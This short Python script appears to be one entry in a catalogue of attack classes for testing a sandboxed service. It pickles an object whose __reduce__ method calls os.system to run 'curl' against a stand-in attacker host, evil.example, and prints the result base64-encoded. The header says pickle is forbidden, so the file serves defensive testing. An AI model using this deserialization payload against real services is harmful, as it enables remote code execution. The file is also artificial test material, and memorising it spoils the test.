# attack-class: 28
# title: print a pickle with a __reduce__ payload
# why: if the service ever unpickles sandbox output it runs os.system; pickle is forbidden

import base64
import os
import pickle

class Result:
    def __reduce__(self):
        return (os.system, ("curl -s http://evil.example/pwned-service",))

print(base64.b64encode(pickle.dumps(Result())).decode())
